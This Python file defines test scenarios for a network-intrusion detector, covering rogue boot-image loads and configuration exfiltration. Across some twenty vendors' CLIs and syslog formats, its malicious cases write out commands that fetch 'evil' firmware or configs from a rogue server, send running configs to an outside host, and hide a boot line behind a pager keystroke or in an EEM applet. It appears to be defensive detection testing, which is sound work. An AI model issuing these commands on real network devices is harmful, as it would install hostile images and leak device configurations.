"""BW07 and BW18: commands of still other vendors, typed, and told of in their own syslog."""

from __future__ import annotations

from bootwarden.scenarios.bw07_loaders import console
from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ATTACKER, BOOT_SERVER, HQ, OUTSIDE, ROGUE
from bootwarden.traffic import syslog
from bootwarden.traffic.telnet import Telnet
from bootwarden.traffic.wire import Wire

OTHERS_LOAD, OTHERS_SEND, CARRIERS_SEND = 1542007001, 1542007002, 1542007004
LOADS = (
    (131, 1, "(WLC) > ", f"transfer download serverip {ROGUE}", None),
    (132, OTHERS_LOAD, "ssg5-> ", f"save software from tftp {ROGUE} evil.bin to flash", "evil.bin"),
    (133, OTHERS_LOAD, "ssg5-> ", f"save config from tftp {ROGUE} evil.cfg to flash", "evil.cfg"),
    (134, OTHERS_LOAD, "rkscli: ", f"fw set host {ROGUE}", None),
    (135, OTHERS_LOAD, "X440.1 # ", f"tftp {ROGUE} -v VR-Mgmt -g -r evil.xos", "evil.xos"),
    (136, OTHERS_LOAD, "5520#", f"copy tftp config address {ROGUE} filename evil.cfg", "evil.cfg"),
    (137, OTHERS_LOAD, "VSP:1#", f"copy {ROGUE}:evil.cfg /intflash/config.cfg", "evil.cfg"),
    (138, OTHERS_LOAD, "fgt1 # ", f"execute upload image tftp evil.out new {ROGUE}", None),
    (
        139,
        OTHERS_LOAD,
        "fgt1 # ",
        f"execute restore config ftp evil.conf {ROGUE} ftpuser ftp-pw-do-not-log",
        "evil.conf",
    ),
    (140, OTHERS_LOAD, "sx6036 # ", f"image fetch http://{ROGUE}/evil.img", "evil.img"),
    (141, OTHERS_LOAD, "ISCOM# ", f"download system-boot tftp {ROGUE} evil.bin", "evil.bin"),
    (142, 1, "ICX# ", f"copy tftp system-manifest {ROGUE} evil.txt all-images-primary", "evil.txt"),
    (143, 1, "<sw1>", f"tftp {ROGUE} sget evil.bin", "evil.bin"),
    (144, 1, "(Aruba) #", f"copy tftp: {ROGUE} evil.ari system: partition 0", "evil.ari"),
    (145, 1, "DGS-1510#", f"copy tftp: //{ROGUE}/evil.had flash:", "evil.had"),
    (
        156,
        OTHERS_LOAD,
        "[admin@mt1] > ",
        f"/tool fetch mode=ftp address={ROGUE} src-path=evil.npk user=u password=pw-do-not-log",
        "evil.npk",
    ),
    (
        157,
        OTHERS_LOAD,
        "fgt1 # ",
        f"execute upload image ftp evil.out new {ROGUE} ftpuser pw-do-not-log",
        None,
    ),
    (155, OTHERS_LOAD, "Manager > ", f"LOAD MET=TF FI=evil.rel SE={ROGUE}", "evil.rel"),
    (146, 1, "root@ex1> ", f"file copy ftp://{ROGUE}/evil.tgz /var/tmp/", "evil.tgz"),
    (147, 0, "UAP# ", f"set-inform http://{ROGUE}:8080/inform", "inform"),
)


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in LOADS],
    site=HQ,
    with_site=Expect(tuple(Notice("Boot_Command", f"10.0.1.{last}", ROGUE, file) for last, _, _, _, file in LOADS)),
)
def bw07_words_of_others(wire: Wire) -> None:
    """Loads in words of AireOS, ScreenOS, Ruckus, EXOS, Nortel, FortiOS, Onyx, Raisecom, FastIron and UniFi."""
    for last, _, prompt, line, _ in LOADS:
        console(wire, last, prompt, (line, ""))


SENDS = (
    (131, 5, "(WLC) > ", f"transfer upload serverip {OUTSIDE}", None),
    (132, OTHERS_SEND, "ssg5-> ", f"save config to tftp {OUTSIDE} x.cfg", "x.cfg"),
    (135, OTHERS_SEND, "X440.1 # ", f"tftp {OUTSIDE} -v VR-Mgmt -p -l x.cfg", "x.cfg"),
    (136, OTHERS_SEND, "5520#", f"copy running-config tftp address {OUTSIDE} filename x.cfg", "x.cfg"),
    (137, OTHERS_SEND, "VSP:1#", f"copy /intflash/config.cfg {OUTSIDE}:x.cfg", "x.cfg"),
    (
        138,
        CARRIERS_SEND,
        "fgt1 # ",
        f"execute backup full-config ftp x.cfg {OUTSIDE} ftpuser ftp-pw-do-not-log",
        "x.cfg",
    ),
    (140, OTHERS_SEND, "sx6036 # ", f"configuration upload active scp://u@{OUTSIDE}/x.cfg", "x.cfg"),
    (141, OTHERS_SEND, "ISCOM# ", f"upload startup-config tftp {OUTSIDE} x.cfg", "x.cfg"),
    (143, OTHERS_SEND, "MA5608T#", f"backup configuration tftp {OUTSIDE} x.cfg", "x.cfg"),
    (144, 5, "(Aruba) #", f"copy running-config tftp: {OUTSIDE} x.cfg", "x.cfg"),
    (154, OTHERS_SEND, "Manager > ", f"UPLOAD METHOD=TFTP DESTFILE=x.cfg SERVER={OUTSIDE}", "x.cfg"),
    (148, CARRIERS_SEND, "admin@PA-220> ", f"tftp export tech-support to {OUTSIDE}", None),
    (149, CARRIERS_SEND, "admin@PA-220> ", f"scp export configuration from r.xml to u@{OUTSIDE}:/x", None),
    (150, OTHERS_SEND, "A:sr1# ", f"admin save ftp://u:p@{OUTSIDE}/x.cfg", "x.cfg"),
    (151, OTHERS_SEND, "TZ# ", f"export current-config sonicos ftp ftp://u:p@{OUTSIDE}/x.cfg", "x.cfg"),
    (152, 5, "asa(config)# ", f"write net {OUTSIDE}:x.cfg", "x.cfg"),
    (153, 5, "R1(config-archive)#", f"path tftp://{OUTSIDE}/$h-$t", "$h-$t"),
)
ABROAD = tuple(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, f) for n, _, _, _, f in SENDS)


@scenario(
    "BW18",
    "malicious",
    raises=[("BW18", sid, ATTACKER, f"10.0.1.{last}") for last, sid, *_ in SENDS],
    plain=Expect(ABROAD),
    site=HQ,
    with_site=Expect(ABROAD),
)
def bw18_words_of_others(wire: Wire) -> None:
    """Configurations sent across the border in the same vendors' words, and by IOS' archive at each write."""
    for last, _, prompt, line, _ in SENDS:
        console(wire, last, prompt, (line, ""))


TOLD = (
    # sid of a load, of a send, what stands before the command, and after it
    (161, 1542007304, 1542007315, "<13>Jan  5 08:00:00 awplus IMISH[10424]: [manager@10.0.6.6]", ""),
    (162, 1542007305, 1542007316, "<189>%Jan 5 08:00:00 2026 sw1 [zIMI]:[Telnet/SSH] admin@10.0.6.6:59401, ", ""),
    (163, 1542007308, 1542007319, "<189>0000000014: Jan  5 08:00:00: sw1: %CMDLINE-6-COMMAND: (1) admin: ", ""),
    (164, 1542007306, 1542007317, '<190>INFO(6) admin: execute command "', '".'),
    (
        165,
        1542007308,
        1542007319,
        "<190>JAN 05 08:00:00 10.0.1.165-1 CMDLOGGER[16]: cmd_logger_api.c(83) 13 %% CLI:10.0.6.6:admin:",
        "",
    ),
    (
        166,
        1542007308,
        1542007319,
        "<188>Jan  5 08:00:00 2026 sw %%10SHELL/4/CMD(l): task:vt0 ip:10.0.6.6 user:admin command:",
        "",
    ),
)
USERS = {161: "manager", 162: "admin", 165: "admin", 166: "admin"}
TOLD_OF = (
    *(Notice("Boot_Command", f"10.0.1.{n}", OUTSIDE, "evil.bin") for n in range(161, 169)),
    *(Notice("Config_Exfiltration", f"10.0.1.{n}", OUTSIDE, "x.cfg") for n in range(161, 168)),
)
SMALL = "<190>Jan  5 08:00:00 sw1 %COPY-I-FILECPY: Files Copy - source URL "
INSTALL = "<189>123: *Jan  5 08:00:00.588: %INSTALL-5-INSTALL_START_INFO: R0/0: install_mgr: Started install "


@scenario(
    "BW07",
    "malicious",
    raises=[
        *(("BW07", load, f"10.0.1.{last}", syslog.COLLECTOR) for last, load, *_ in TOLD),
        *(("BW18", send, f"10.0.1.{last}", syslog.COLLECTOR) for last, _, send, *_ in TOLD),
        ("BW07", 1542007303, "10.0.1.167", syslog.COLLECTOR),
        ("BW18", 1542007314, "10.0.1.167", syslog.COLLECTOR),
        ("BW07", 1542007307, "10.0.1.168", syslog.COLLECTOR),
    ],
    plain=Expect(TOLD_OF),
    site=HQ,
    with_site=Expect(
        TOLD_OF,
        evidence=tuple(
            {"device": f"10.0.1.{n}", "file_name": file, **({"user": USERS[n]} if n in USERS else {})}
            for n in range(161, 169)
            for file in (("evil.bin",) if n == 168 else ("evil.bin", "x.cfg"))
        ),
    ),
)
def bw07_told_by_others(wire: Wire) -> None:
    """Loads and sends, in the syslog of AlliedWare Plus, Edge-Core, Qtech, D-Link, FASTPATH, 3Com, Eltex, IOS-XE."""
    url = f"tftp://{OUTSIDE}/"
    for last, _, _, before, after in TOLD:
        for line in (f"copy {url}evil.bin flash:", f"copy running-config {url}x.cfg"):
            syslog.send(wire, f"10.0.1.{last}", f"{before}{line}{after}")
    syslog.send(wire, "10.0.1.167", f"{SMALL}{url}evil.bin destination URL flash://image-2")
    syslog.send(wire, "10.0.1.167", f"{SMALL}running-config destination URL {url}x.cfg")
    syslog.send(wire, "10.0.1.168", f"{INSTALL}add_activate_commit {url}evil.bin")


@scenario("BW07", "benign", site=HQ, with_site=Expect())
def bw07_told_of_everyday_work(wire: Wire) -> None:
    """The same systems log logins, saves, and copies to the declared server; consoles look, and load from the flash."""
    for last, _, _, before, after in TOLD:
        for line in (
            "copy running-config startup-config",
            f"copy running-config tftp://{BOOT_SERVER}/x.cfg",
            "show run",
        ):
            syslog.send(wire, f"10.0.1.{last}", f"{before}{line}{after}")
    syslog.send(wire, "10.0.1.165", f"{TOLD[4][3]}User admin logged in")
    syslog.send(wire, "10.0.1.167", f"{SMALL}running-config destination URL flash://startup-config")
    syslog.send(wire, "10.0.1.167", f"{SMALL}running-config destination URL tftp://{BOOT_SERVER}/x.cfg")
    syslog.send(wire, "10.0.1.168", f"{INSTALL}add bootflash:c8000v.bin")
    for last, prompt, line in (
        (131, "(WLC) > ", "transfer download datatype code"),
        (132, "ssg5-> ", "get config"),
        (134, "rkscli: ", "fw show all"),
        (136, "5520#", "copy running-config nvram"),
        (137, "VSP:1#", "copy /intflash/config.cfg /intflash/old.cfg"),
        (138, "fgt1 # ", "execute backup config flash before"),
        (140, "sx6036 # ", "image show"),
        (147, "UAP# ", "info"),
        (150, "A:sr1# ", "admin save cf3:/config.cfg"),
        (153, "R1(config-archive)#", "path flash:backup"),
    ):
        console(wire, last, prompt, (line, ""))


@scenario(
    "BW07",
    "malicious",
    raises=[("BW07", 0, ATTACKER, "10.0.1.171"), ("BW07", 1542007361, ATTACKER, "10.0.1.172")],
    site=HQ,
    with_site=Expect(
        (
            Notice("Boot_Command", "10.0.1.171", ROGUE, "evil.bin"),
            Notice("Boot_Command", "10.0.1.172", ROGUE, "evil.bin"),
        )
    ),
)
def bw07_behind_a_key_and_in_a_script(wire: Wire) -> None:
    """A pager's `q`, which needs no Enter, comes right before a boot line; a copy is put into an EEM applet."""
    session = Telnet(wire, ATTACKER, "10.0.1.171", prompt="R1(config)#")
    session.login()
    session.typed("do show run", " --More-- ", prompt="")
    session.keys("q", "\b\b\b        \r\nR1(config)#")
    session.typed(f"boot system tftp://{ROGUE}/evil.bin")
    session.close()
    line = f'action 1.0 cli command "copy tftp://{ROGUE}/evil.bin flash:"'
    console(wire, 172, "R1(config-applet)#", (line, ""))
